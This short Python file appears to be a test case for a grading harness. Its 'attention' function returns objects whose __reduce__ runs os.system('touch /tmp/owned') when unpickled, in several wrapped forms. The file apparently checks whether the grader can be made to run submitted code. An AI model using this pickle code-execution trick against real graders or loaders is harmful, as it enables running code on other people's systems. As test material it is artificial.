# id: E16
# tries: returns objects that run code when they are unpickled
# expect: WA
import os
import pickle

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)


odd = iter([Payload(), pickle.dumps(Payload()), np.array([Payload()], dtype=object), [Payload()]] * 9)


def attention(q, k, v):
    return next(odd)
